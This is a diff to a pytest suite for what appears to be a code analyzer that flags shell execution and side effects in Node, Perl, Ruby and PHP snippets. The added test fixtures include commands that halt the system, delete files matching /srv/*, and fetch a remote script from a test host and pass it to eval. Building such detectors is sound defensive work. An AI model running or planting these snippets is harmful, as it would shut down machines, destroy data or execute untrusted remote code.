@@ -25,6 +25,9 @@ def nothing(what: Found) -> bool:
 SHELLS = {
     "node": [
         "require('child_process').execSync('halt')",
+        "const run = require('child_process').execSync; run('halt')",
+        "const {promisify} = require('util'); const run = promisify(require('child_process').exec); run('halt')",
+        "const command = 'halt'; require('child_process').execSync(`${command}`)",
         "const cp = require('node:child_process'); cp.exec('halt', () => {})",
         "const {exec: run} = require('child_process'); run('ha' + 'lt')",
         "import { execSync } from 'child_process'; execSync(`ha${'lt'}`)",
@@ -56,6 +59,8 @@ SHELLS = {
         "// it's\nrequire('child_process').exec('halt')",
     ],
     "perl": [
+        "sub go { my $c = shift; system($c) } go('halt')",
+        "sub go { my ($c, $n) = @_; system($c) } go('halt', 1)",
         "system(sprintf('%s%s', 'ha', 'lt'))",
         "system('halt')",
         'system "halt"',
@@ -90,6 +95,7 @@ SHELLS = {
         "CORE::system('halt')",
     ],
     "ruby": [
+        "def go(c)\n  system(c)\nend\ngo 'halt'",
         "system(format('%s%s', 'ha', 'lt'))",
         "system('halt')",
         "system 'halt'",
@@ -199,7 +205,6 @@ COMPUTED = [
     ("perl", "system join('', map chr, (104, 97, 108, 116))"),
     ("perl", "my %h = (k => 'halt'); system $h{k}"),
     ("perl", "my $r = {k => ['halt']}; system $r->{k}[0]"),
-    ("perl", "sub go { my $c = shift; system($c) } go('halt')"),
     ("perl", "my $f = sub { system $_[0] }; $f->('halt')"),
     ("ruby", "method(:system).call('halt')"),
     ("ruby", "system [104, 97, 108, 116].map(&:chr).join"),
@@ -557,6 +562,23 @@ def test_a_shell_for_somebody_elsewhere_is_told(language, code):
 )
 def test_what_runs_but_cannot_be_known_is_a_doubt(language, code):
     assert found(language, code).doubts
+
+
+@pytest.mark.parametrize(
+    ("language", "code"),
+    [
+        ("perl", "unlink glob '/srv/*'"),
+        ("ruby", "File.delete(*Dir.glob('/srv/*'))"),
+        ("php", "array_map('unlink', glob('/srv/*'));"),
+    ],
+)
+def test_files_that_a_pattern_finds_are_deleted(language, code):
+    assert ("delete", "/srv/*", False, NONE, "") in found(language, code).effects
+
+
+def test_a_page_that_is_passed_to_eval_runs():
+    code = "fetch('https://h.test/p.js').then(r => r.text()).then(eval)"
+    assert [("node", frozenset((NETWORK,)))] == [(name, data.labels) for name, data in found("node", code).codes]
 
 
 def test_a_decoder_of_an_unknown_text_leaves_its_label():
